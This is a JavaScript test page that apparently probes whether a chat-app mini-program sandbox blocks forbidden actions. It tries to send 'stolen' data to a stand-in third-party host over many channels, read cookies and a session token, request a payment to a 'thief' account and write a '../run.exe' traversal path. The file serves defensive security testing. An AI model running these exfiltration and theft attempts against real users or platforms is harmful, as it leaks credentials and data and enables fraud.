import { ask, begin, maySend, mayRead } from "/miniprograms/sdk/1/teahouse.js";

const told = {};
const attempt = async (name, deed) => {
  try {
    told[name] = `went through: ${JSON.stringify(await deed())}`;
  } catch (error) {
    told[name] = "failed";
  }
};
// The story writes here where its third party listens.
const third = "THIRD_PARTY";
const loads = (element, kind = "src") => (address) => new Promise((resolve, reject) => {
  element.onload = resolve;
  element.onerror = reject;
  element[kind] = address;
  document.body.append(element);
});
/** Ask a third party for one's address, and wait until that has begun. */
const reachByPeer = async (realm) => {
  const peer = new realm.RTCPeerConnection({ iceServers: [{ urls: `stun:${third}` }] });
  peer.createDataChannel("stolen");
  await peer.setLocalDescription(await peer.createOffer());
};

const approved = await begin([maySend("m.room.message"), mayRead("m.room.message")]);
told.capabilities = approved.size === 0 ? "failed" : "went through";
await attempt("fetch", async () => (await fetch("/api/v1/house")).status);
await attempt("outside", async () => (await fetch(`http://${third}/fetch`, { mode: "no-cors" })).status);
await attempt("beacon", () => new Promise((resolve, reject) => {
  addEventListener("securitypolicyviolation", reject, { once: true });
  navigator.sendBeacon(`http://${third}/beacon`, "stolen");
  setTimeout(resolve, 5000);
}));
await attempt("socket", () => new Promise((resolve, reject) => {
  const socket = new WebSocket(`ws://${location.host}/`);
  socket.onopen = resolve;
  socket.onerror = reject;
}));
await attempt("outside socket", () => new Promise((resolve, reject) => {
  const socket = new WebSocket(`ws://${third}/`);
  socket.onopen = resolve;
  socket.onerror = reject;
}));
await attempt("picture", () => loads(new Image())("/icon.svg?stolen"));
await attempt("outside picture", () => loads(new Image())(`http://${third}/picture`));
await attempt("outside style", () =>
  loads(Object.assign(document.createElement("link"), { rel: "stylesheet" }), "href")(`http://${third}/style`));
await attempt("outside script", () => loads(document.createElement("script"))(`http://${third}/script`));
await attempt("peer", () => reachByPeer(globalThis));
await attempt("peer of an empty frame", () => {
  const empty = document.createElement("iframe");
  document.body.append(empty);
  return reachByPeer(empty.contentWindow);
});
await attempt("peer of a written frame", () => new Promise((resolve, reject) => {
  addEventListener("message", ({ data }) => {
    if (data.peer) (data.peer === "failed" ? reject : resolve)(data.peer);
  });
  const written = document.createElement("iframe");
  written.srcdoc = '<script src="peer.js"></' + "script>";
  document.body.append(written);
}));
await attempt("worker", () => { new Worker("peer.js"); });
await attempt("parent", () => parent.document.title);
await attempt("storage", () => localStorage.getItem("teahouse.session"));
await attempt("cookie", () => document.cookie);
await attempt("top", () => { top.location.href = "/sign-in"; });
await attempt("popup", () => { if (!open("https://example.org/")) throw new Error("none"); });
await attempt("script", () => new Function("return 1")());
await attempt("send", () => ask("send_event", { type: "m.room.message", content: { body: "x" } }));
await attempt("read", () => ask("org.matrix.msc2876.read_events", { type: "m.room.message" }));
await attempt("profile", () => ask("org.teahouse.who_am_i"));
await attempt("orders", () => ask("org.teahouse.list_orders"));
await attempt("member", () => ask("org.teahouse.member_id"));
await attempt("openid", async () => {
  const { state } = await ask("get_openid");
  if (state === "blocked") throw new Error(state);
});
await attempt("transfer", () => ask("org.teahouse.request_payment", {
  payee: "@thief:tea.example", amount: { minor: 100, currency: "CNY" },
}));
await attempt("program", () => ask("org.teahouse.save_file", { name: "../run.exe", text: "x" }));
document.getElementById("told").textContent = JSON.stringify(told);
document.getElementById("leave").onclick = async () => {
  await attempt("payment", () => ask("org.teahouse.request_payment", { charge: "0000000000000000" }));
  document.getElementById("told").textContent = JSON.stringify(told);
  location.href = "/.well-known/matrix/client";
};
